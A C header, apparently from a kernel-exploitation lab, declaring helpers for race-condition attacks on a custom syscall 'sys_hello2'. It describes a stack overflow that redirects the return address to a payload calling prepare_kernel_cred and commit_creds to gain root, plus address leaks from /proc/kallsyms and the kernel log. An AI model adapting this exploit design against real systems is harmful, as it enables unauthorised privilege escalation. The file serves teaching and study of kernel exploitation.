/* SPDX-License-Identifier: MIT */
/*
 * What the attacks on sys_hello2 share.  Each has two threads: the victim,
 * which is main(), calls the kernel; the adversary changes what the kernel
 * reads meanwhile.  Each store of the adversary is followed by sched_yield(),
 * so that it does one thing whenever it gets the processor.
 */
#ifndef _RACE_H
#define _RACE_H

#define SYS_HELLO2 401
#define HELLO2_NAME_MAX 64 /* the longest name that the kernel takes */
#define NOBODY 65534	   /* a user without any rights */

struct hello2_in {
	char *name;
	unsigned int len;
	unsigned int val;
};

struct hello2_out {
	unsigned int nr_calls;
	unsigned int rand_data[4];
};

/*
 * Start the adversary; 0, or -1 and errno. It is ready when this returns: it
 * stands in race_goes_on(), and its first store is next.
 */
int race_begin(void *(*adversary)(void *));

/*
 * For the adversary's loop: gives the processor away, and then says whether
 * there is still a race. There are so many rounds at most that it ends even
 * if the victim has died.
 */
int race_goes_on(void);

/* Wait for the adversary's end. */
void race_end(void);

/* The address of a function of the kernel, from /proc/kallsyms; 0 if none. */
unsigned long kernel_symbol(const char *name);

/*
 * For a length that overflows the kernel's buffer. It reaches past the return
 * address of any hello2, and not to the end of the stack, which is pt_regs
 * and some saved registers away.
 */
#define OVERFLOW 160

/* "beagle", and behind it the address of payload() over and over. */
void fill_overflow(unsigned long name[OVERFLOW / sizeof(unsigned long)]);

/*
 * lib/payload.S: hello2 as the other calls are made, and what the kernel shall
 * execute when it returns from it. payload() is told where two functions of
 * the kernel are; race_arm() looks them up, and returns 0 if they are there.
 */
long call_hello2(struct hello2_in *in, struct hello2_out *out);
void payload(void);
extern unsigned long prepare_kernel_cred, commit_creds;
int race_arm(void);

/* The address of a secret in the kernel, from its log; 0 if there is none. */
unsigned long kernel_secret(void);

#endif
